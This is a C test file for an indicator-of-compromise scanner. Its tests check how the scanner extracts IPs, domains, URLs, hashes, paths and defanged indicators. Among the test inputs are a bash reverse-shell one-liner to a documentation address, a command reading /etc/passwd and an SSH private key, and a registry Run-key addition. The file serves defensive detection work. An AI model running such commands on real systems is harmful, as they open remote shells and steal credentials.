/* t_ioc.c - the indicator scanner: what is one, what is none, hostile bytes. */
#include "analytics/ioc.h"

#include <time.h>

#include "base/buf.h"

#include "t.h"

enum { ALL = (1 << NIOCS) - 1 };

static struct ioc_scanner *scanner(struct arena *a, unsigned types)
{
    struct ioc_opts o = { .types = types };
    return ioc_scanner_new(a, &o);
}

/* "type=value type=value …" of all finds. */
static str scan(struct arena *a, str text)
{
    const struct ioc *found;
    struct buf b;
    size_t n = ioc_scan(scanner(a, ALL), a, text, &found);
    buf_init(&b, 1 << 20);
    for (size_t i = 0; i < n; i++) {
        buf_addf(&b, "%s%s=", i ? " " : "", ioc_type_name(found[i].type));
        buf_add(&b, found[i].value);
    }
    text = buf_take(&b, a);
    buf_release(&b);
    return text;
}

#define FINDS(text, want)                                                    \
    do {                                                                     \
        struct arena *t_a = arena_new();                                     \
        CHECK_STR(scan(t_a, S(text)), want);                                 \
        arena_free(t_a);                                                     \
    } while (0)

TEST(addresses)
{
    FINDS("from 10.0.0.1:80", "ipv4=10.0.0.1");
    FINDS("10.0.0.1-10.0.0.9", "ipv4=10.0.0.1 ipv4=10.0.0.9");
    FINDS("300.1.1.1 1.2.3 1.2.3.4.5 x1.2.3.4", "");
    FINDS("version 1.2.3.4, FileVersion=5.6.7.8 (Agent/9.9.9.9)", "");
    FINDS("at 12:30:45 and 1:2", "");
    FINDS("[2001:DB8::1]:443 fe80::1%eth0 ::1.",
          "ipv6=2001:db8::1 ipv6=fe80::1 ipv6=::1");
    FINDS("a::b::c std::string dead::beef ::", "");
    FINDS("00:1A:2b:3c:4d:5e 00-1a-2b-3c-4d-5f ff:ff:ff:ff:ff:ff",
          "mac=00:1a:2b:3c:4d:5e mac=00:1a:2b:3c:4d:5f");
    FINDS("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
          "linux_path=/dev/tcp/203.0.113.7/4444 ipv4=203.0.113.7");
}

TEST(names)
{
    FINDS("WWW.Example.COM. and b.example.org,c.example.net",
          "dns=www.example.com dns=b.example.org dns=c.example.net");
    FINDS("setup.exe run.sh readme.md System.Net.Sockets $x.name co.uk", "");
    FINDS("x.Substring(1) this.id() Console.in host.name=7", "");
    FINDS("C:\\Tools\\cmd.com",
          "windows_path=C:\\Tools\\cmd.com");
    FINDS("\\\\files.example.com\\c$\\a.txt",
          "windows_path=\\\\files.example.com\\c$\\a.txt "
          "dns=files.example.com");
    FINDS("b\303\274cher.de \320\277\321\200\320\270\320\274\320\265\321\200."
          "\321\200\321\204",
          "dns=b\303\274cher.de dns=\320\277\321\200\320\270\320\274\320\265"
          "\321\200.\321\200\321\204");
    FINDS("\350\256\277\351\227\256evil.com\344\270\213\350\275\275",
          "dns=evil.com");
    FINDS("john.me+x@mail.example.org",
          "email=john.me+x@mail.example.org dns=mail.example.org");
}

TEST(defanged)
{
    FINDS("hxxps[:]//evil[.]com[:]8080/a",
          "url=https://evil.com:8080/a dns=evil.com");
    FINDS("1[.]2(.)3{.}4 evil[dot]com bad [.] org a[at]b(dot)net",
          "ipv4=1.2.3.4 dns=evil.com dns=bad.org email=a@b.net dns=b.net");
    FINDS("fxp://x[.]org h**p://y.org/ hxxp[://]z.org",
          "url=ftp://x.org dns=x.org url=http://y.org/ dns=y.org "
          "url=http://z.org dns=z.org");
}

TEST(urls)
{
    FINDS("(see 'http://a.example.com/x(1)?q=[2]'.)",
          "url=http://a.example.com/x(1)?q=[2] dns=a.example.com");
    FINDS("http://a.org/1,http://b.org/2;",
          "url=http://a.org/1 dns=a.org url=http://b.org/2 dns=b.org");
    FINDS("https://r.org/?to=http%3A%2F%2Fevil.net%2Fp&x=1",
          "url=https://r.org/?to=http%3A%2F%2Fevil.net%2Fp&x=1 dns=r.org "
          "url=http://evil.net/p dns=evil.net");
    FINDS("http://ex%61mple.com/x", "url=http://example.com/x "
          "dns=example.com");
    FINDS("http://[::1]:8/a file:///etc/passwd http:// foo://bar",
          "url=http://[::1]:8/a ipv6=::1 url=file:///etc/passwd");
    FINDS("http://u:p@10.0.0.1/a.php?b=c.example.com#d",
          "url=http://u:p@10.0.0.1/a.php?b=c.example.com#d ipv4=10.0.0.1 "
          "dns=c.example.com");
}

TEST(hashes_and_numbers)
{
    FINDS("MD5=D41D8CD98F00B204E9800998ECF8427E,",
          "md5=d41d8cd98f00b204e9800998ecf8427e");
    FINDS("da39a3ee5e6b4b0d3255bfef95601890afd80709.bin",
          "sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709");
    FINDS("00000000000000000000000000000000 20240101120000202401011200001234 "
          "0xda39a3ee5e6b4b0d3255bfef95601890afd80709 "
          "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "");
    FINDS("cve-2021-44228 CVE-20-1 CVE-2021-44228x", "cve=CVE-2021-44228");
    FINDS("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa "
          "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb",
          "bitcoin=1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa");
    FINDS("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 "
          "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5",
          "bitcoin=bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4");
}

TEST(paths)
{
    FINDS("C:\\Program Files (x86)\\A b\\c.exe -x D:\\y.dll,Run",
          "windows_path=C:\\Program Files (x86)\\A b\\c.exe "
          "windows_path=D:\\y.dll");
    FINDS("\"C:\\\\Users\\\\a\\\\x.txt\" %TEMP%\\p.exe .\\q.ps1",
          "windows_path=C:\\Users\\a\\x.txt windows_path=%TEMP%\\p.exe "
          "windows_path=.\\q.ps1");
    FINDS("reg add HKCU\\Software\\Windows NT\\Run /v x",
          "registry_key=HKCU\\Software\\Windows NT\\Run");
    FINDS("cat /etc/passwd ~/.ssh/id_rsa; CORP\\ana /c /Q a/b",
          "linux_path=/etc/passwd linux_path=~/.ssh/id_rsa");
    FINDS("UA: Mozilla/5.0 (X11; Linux) Gecko/1 Firefox/2, curl/8.1",
          "user_agent=Mozilla/5.0 (X11; Linux) Gecko/1 Firefox/2 "
          "user_agent=curl/8.1");
}

TEST(places_are_kept_and_repeats_left_out)
{
    struct arena *a = arena_new();
    const struct ioc *f;
    struct ioc_opts o = { .types = IOC_BIT(IPV4), .repeats = true };
    str text = S("1.1.1.1 2.2.2.2 1.1.1.1");
    CHECK(ioc_scan(scanner(a, IOC_BIT(IPV4)), a, text, &f) == 2);
    CHECK(f[1].beg == 8 && f[1].end == 15);
    CHECK(ioc_scan(ioc_scanner_new(a, &o), a, text, &f) == 3);
    CHECK(ioc_types_from_name(S("domain-name")) == IOC_BIT(DNS));
    CHECK(ioc_types_from_name(S("ip")) == (IOC_BIT(IPV4) | IOC_BIT(IPV6)));
    CHECK(ioc_types_from_name(S("")) == 0);
    arena_free(a);
}

TEST(odd_bytes)
{
    FINDS("", "");
    FINDS("a.com\0b.com", "dns=a.com dns=b.com");
    FINDS("\377\376.com evil\200.com @.@ ://", "");
    FINDS(". .. ... [ [. [.] (.) @ : :: / \\ % -", "");
}

static double seconds_of(const char *piece, size_t bytes)
{
    struct arena *a = arena_new();
    const struct ioc *f;
    struct timespec from, to;
    size_t n = strlen(piece);
    char *p = arena_alloc(a, bytes);
    for (size_t i = 0; i < bytes; i++)
        p[i] = piece[i % n];
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &from);
    ioc_scan(scanner(a, ALL), a, (str){ p, bytes }, &f);
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &to);
    arena_free(a);
    return (double)(to.tv_sec - from.tv_sec) +
           (double)(to.tv_nsec - from.tv_nsec) / 1e9;
}

/* A megabyte of anything takes no time worth a thought (checked build). */
TEST(no_input_is_slow)
{
    static const char *const pieces[] = {
        "a.", "1.", "a@", "@", ":", "a:", "http://", "http://a", "[.]", "[",
        "a[.]", "%3A%2F%2F", "http%3A%2F%2F", "\\", "a\\", "\\\\a\\", "/", "/a",
        "-", "a-", "C:\\", "HKLM\\", "CVE-", "Mozilla/5.0 (", "0", "f", "A",
        "a ", "\200", "\344\270\213", "b\303\274.", "http://a.com/?u=", "((",
        "http://a.com,", " [.] ", "00:", "00-", "%TEMP%\\", "/etc/", "'",
        "http://a)))))))", "a.b@c.d,", "f::", "1a.b-c_d",
    };
    for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
        double s = seconds_of(pieces[i], 1 << 20);
        if (s > 3)
            printf("'%s' takes %.1f s\n", pieces[i], s);
        CHECK(s <= 3);
    }
}
